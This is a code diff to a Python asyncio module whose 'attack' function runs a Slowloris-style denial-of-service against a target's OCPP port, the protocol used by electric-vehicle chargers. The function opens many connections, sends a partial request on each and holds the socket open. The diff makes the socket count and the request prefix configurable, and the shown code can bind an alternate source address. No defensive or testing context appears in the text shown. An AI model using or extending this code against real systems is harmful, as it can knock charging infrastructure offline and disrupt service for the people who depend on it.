@@ -16,8 +16,15 @@ async def attack(target: Target, tally: Tally) -> None:
     await hold_open(target.ocpp_port, tally, wire.ELSEWHERE)
 
 
-async def hold_open(port: int, tally: Tally, source: str | None) -> None:
-    """Send most of the longest request on each, and wait for its end."""
+async def hold_open(
+    port: int,
+    tally: Tally,
+    source: str | None,
+    *,
+    sockets: int = _SOCKETS,
+    beginning: bytes = _BEGINNING,
+) -> None:
+    """Send most of a request on each, else of the longest there may be, and wait for its end."""
     dialling = asyncio.Semaphore(_DIALLING)
 
     async def half_open() -> None:
@@ -30,7 +37,7 @@ async def hold_open(port: int, tally: Tally, source: str | None) -> None:
                         local_addr=None if source is None else (source, 0),
                     )
                 try:
-                    writer.write(_BEGINNING)
+                    writer.write(beginning)
                     tally.did()
                     await reader.read()
                     tally.lost()
@@ -39,7 +46,7 @@ async def hold_open(port: int, tally: Tally, source: str | None) -> None:
             await asyncio.sleep(0)
 
     async with asyncio.TaskGroup() as group:
-        for _ in range(_SOCKETS):
+        for _ in range(sockets):
             group.create_task(half_open())
 
 
